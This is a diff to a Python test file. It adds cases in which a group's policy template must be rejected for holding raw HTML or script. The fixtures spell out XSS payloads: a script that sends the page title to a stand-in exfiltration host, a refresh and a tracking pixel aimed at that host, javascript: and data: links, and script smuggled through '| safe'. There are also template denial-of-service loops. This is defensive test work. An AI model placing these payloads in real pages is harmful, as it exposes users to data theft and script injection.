@@ -280,8 +280,37 @@ def policy_with(extra: str) -> str:
     return head + sep + clause + blank + body + " " + extra + blank2 + tail
 
 
+def policy_line(extra: str) -> str:
+    """ "line N" where `extra` lands in policy_with(extra)."""
+    made = policy_with(extra)
+    return f"line {made[:made.index(extra)].count(chr(10)) + 1}"
+
+
+RAW_HTML = "it has raw HTML"
+SCRIPT = '<script>location = "https://exfil.invalid/?" + document.title</script>'
+REFRESH = '<meta http-equiv="refresh" content="0; url=https://exfil.invalid/">'
+PIXEL = '<img src="https://exfil.invalid/pixel.gif">'
+# What a group's policy text may not hold (see handbook/policy/markup.py), each with its one sentence.
+MARKUP_CASES: dict[str, Case] = {
+    "a script": case(policy_with(SCRIPT), policy_line(SCRIPT), RAW_HTML),
+    "a refresh to another site": case(policy_with(REFRESH), policy_line(REFRESH), RAW_HTML),
+    "a picture that carries data away": case(policy_with(PIXEL), policy_line(PIXEL), RAW_HTML),
+    "a closing tag": case(policy_with("</div>"), policy_line("</div>"), RAW_HTML),
+    "an HTML comment": case(policy_with("<!-- hidden -->"), policy_line("<!-- hidden -->"), RAW_HTML),
+    "an event handler as an attribute list": case(policy_with('[x](#top){ onclick="alert(1)" }'),
+                                                  policy_line("[x](#top)"), "a { or } outside {{ ... }}"),
+    "a javascript: link": case(policy_with("[help](javascript:alert(1))"), policy_line("[help]"),
+                               "it links to a javascript: address"),
+    "a data: link": case(policy_with("[help](data:text/html,x)"), policy_line("[help]"), "a data: address"),
+    "a script through | safe": case(policy_with('{{ "<script>alert(1)</script>" | safe }}'),
+                                    "clause 1", RAW_HTML, "{{ ... }} part"),
+    "a script written as escapes through | safe": case(policy_with('{{ "\\x3cscript>x" | safe }}'), RAW_HTML),
+}
+
+
 # A group's own policy text (policy/1.1.md beside its group.yml), which is a template too.
 POLICY_CASES: dict[str, Case] = {
+    **MARKUP_CASES,
     "a loop inside a loop": case(policy_with("{% for i in range(9999) %}{% for j in range(9999) %}"
                                              "{% endfor %}{% endfor %}"), "did not finish within 5 seconds"),
     "a macro that calls itself": case(policy_with("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"),
